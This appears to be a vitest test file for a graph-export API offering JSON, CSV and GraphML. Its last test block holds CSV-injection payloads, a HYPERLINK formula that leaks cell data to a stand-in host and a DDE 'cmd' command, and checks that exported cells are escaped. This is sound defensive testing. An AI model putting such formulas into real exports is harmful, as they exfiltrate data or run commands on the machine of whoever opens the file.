import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { describe, expect, it } from 'vitest';
import { encodeListCell, graphToGraphMl, graphToNodesCsv, graphToRelationshipsCsv } from '../../../server/exporters/graph-export.js';
import { embeddedHarness, embeddedHarnessPerTest, expectRoundTrip } from '../app-harness.js';
import { multipartBody } from '../multipart-body.js';

const h = embeddedHarnessPerTest();

describe('GET /api/v1/export', () => {
  it('answers the JSON import document by default, as an attachment', async () => {
    const res = await h.app.inject({ method: 'GET', url: '/api/v1/export' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json');
    expect(res.headers['content-disposition']).toBe('attachment; filename="oretrace-graph.json"');
    const doc = res.json();
    expect(Object.keys(doc)).toEqual(['version', 'exportedAt', 'nodes', 'relationships']);
    expect(doc.version).toBe(await h.store.version());
    expect(Date.now() - Date.parse(doc.exportedAt)).toBeLessThan(60_000);
    expect(doc.nodes).toHaveLength(11);
    expect(doc.relationships).toHaveLength(13);
    expect(doc.nodes[0]).toEqual({ label: 'Company', id: 'acme', name: 'Acme Watches', country: 'JP', saqScore: 81, tags: ['focal'] });
  });

  it('JSON export → POST /api/v1/imports/graph into an empty store → the same graph', async () => {
    const exported = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=json' });
    await expectRoundTrip(h.store, (empty) =>
      empty.inject({
        method: 'POST',
        url: '/api/v1/imports/graph',
        payload: exported.body,
        headers: { 'content-type': 'application/json' },
      }),
    );
  });

  it('answers CSV one part at a time', async () => {
    const scan = await h.store.scan();
    const nodes = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=nodes' });
    expect(nodes.statusCode).toBe(200);
    expect(nodes.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(nodes.headers['content-disposition']).toBe('attachment; filename="nodes.csv"');
    expect(nodes.body).toBe(graphToNodesCsv(scan));
    const relationships = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=relationships' });
    expect(relationships.headers['content-disposition']).toBe('attachment; filename="relationships.csv"');
    expect(relationships.body).toBe(graphToRelationshipsCsv(scan));
    expect(relationships.body.split('\r\n')).toHaveLength(13 + 2);
  });

  it('answers GraphML', async () => {
    const res = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=graphml' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/graphml+xml');
    expect(res.headers['content-disposition']).toBe('attachment; filename="oretrace-graph.graphml"');
    const exportedAt = /<data key="g_exportedAt">([^<]+)<\/data>/.exec(res.body)![1]!;
    expect(res.body).toBe(graphToGraphMl(await h.store.scan(), { exportedAt: new Date(exportedAt) }));
  });

  it('400 naming query.part or query.format', async () => {
    const noPart = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=csv' });
    expect(noPart.statusCode).toBe(400);
    expect(noPart.headers['content-type']).toBe('application/problem+json');
    expect(noPart.json().errors).toEqual([
      { path: 'query.part', message: 'is required with format=csv: nodes or relationships (a CSV export is two files)' },
    ]);
    const partWithJson = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=graphml&part=nodes' });
    expect(partWithJson.json().errors).toEqual([
      { path: 'query.part', message: 'only goes with format=csv; a graphml export is one file' },
    ]);
    const badPart = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=edges' });
    expect(badPart.json().errors.map((e: { path: string }) => e.path)).toEqual(['query.part']);
    const badFormat = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=xlsx' });
    expect(badFormat.statusCode).toBe(400);
    expect(badFormat.json().errors.map((e: { path: string }) => e.path)).toEqual(['query.format']);
  });

  it('GraphML for every graph the store can hold: an id cannot name nodes of two labels (the 422 of graphMlChunks stays a guard)', async () => {
    // Since ids are unique across labels (a 409 on the write), the export's check cannot fire over HTTP.
    const put = await h.app.inject({ method: 'PUT', url: '/api/v1/companies/CD', payload: { name: 'CD Trading', country: 'JP' } });
    expect(put.statusCode).toBe(409);
    expect((await h.app.inject({ method: 'GET', url: '/api/v1/export?format=graphml' })).statusCode).toBe(200);
  });

  it('is documented in OpenAPI with its three media types', async () => {
    const doc = (await h.app.inject({ method: 'GET', url: '/docs/json' })).json();
    const op = doc.paths['/api/v1/export'].get;
    expect(op.parameters.map((p: { name: string; in: string }) => `${p.in}.${p.name}`)).toEqual(['query.format', 'query.part']);
    expect(Object.keys(op.responses['200'].content)).toEqual(['application/json', 'text/csv', 'application/graphml+xml']);
    expect(op.responses['200'].content['application/json'].schema).toEqual({ $ref: '#/components/schemas/GraphExport' });
    expect(doc.components.schemas.GraphExport.required).toEqual(expect.arrayContaining(['version', 'exportedAt']));
  });
});

describe('GET /api/v1/export?format=csv with text a spreadsheet would run', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const CMD = "+cmd|' /C calc'!A0";
  /** Data cells of a CSV answer, as a spreadsheet reads them. */
  const cells = (body: string) => (parse(body) as string[][]).slice(1).flat();
  const exportCsv = async (app: FastifyInstance) => ({
    nodes: (await app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=nodes' })).body,
    relationships: (await app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=relationships' })).body,
  });

  it('starts no cell with = + - @ tab or CR, and imports back into an empty store as the same graph, byte for byte', async () => {
    const put = await h.app.inject({
      method: 'PUT',
      url: '/api/v1/companies/@evil',
      payload: { name: HYPERLINK, country: 'JP', tags: [CMD, "'=quoted", 'plain'] },
    });
    expect(put.statusCode).toBe(201);
    const supply = await h.app.inject({
      method: 'PUT',
      url: '/api/v1/supplies',
      payload: { from: 't1a', to: '@evil', metal: 'tin', share: 0.5, source: '-cmrt.xlsx' },
    });
    expect(supply.statusCode).toBeLessThan(300);

    const exported = await exportCsv(h.app);
    const all = [...cells(exported.nodes), ...cells(exported.relationships)];
    expect(all).toContain(`'${HYPERLINK}`);
    expect(all).toContain(`'${encodeListCell([CMD, "'=quoted", 'plain'])}`);
    expect(all).toContain("'-cmrt.xlsx");
    for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const empty = await embeddedHarness({ withFixture: false });
    try {
      const res = await empty.app.inject({
        method: 'POST',
        url: '/api/v1/imports/graph',
        ...(await multipartBody([
          ['nodes', exported.nodes],
          ['relationships', exported.relationships],
        ])),
      });
      expect(res.statusCode).toBe(200);
      expect(res.json()).toMatchObject({ nodesUpserted: 12, relationshipsUpserted: 14 });
      expect(await empty.store.getNode('Company', '@evil')).toEqual({
        label: 'Company',
        id: '@evil',
        name: HYPERLINK,
        country: 'JP',
        tags: [CMD, "'=quoted", 'plain'],
      });
      const again = await exportCsv(empty.app);
      expect(again.nodes).toBe(exported.nodes);
      // The import stamps relationships with its own time: the rest of every row is the same.
      const withoutUpdatedAt = (body: string) => body.replace(/,[^,\r\n]*\r\n/g, '\r\n');
      expect(withoutUpdatedAt(again.relationships)).toBe(withoutUpdatedAt(exported.relationships));
    } finally {
      await empty.close();
    }
  });
});
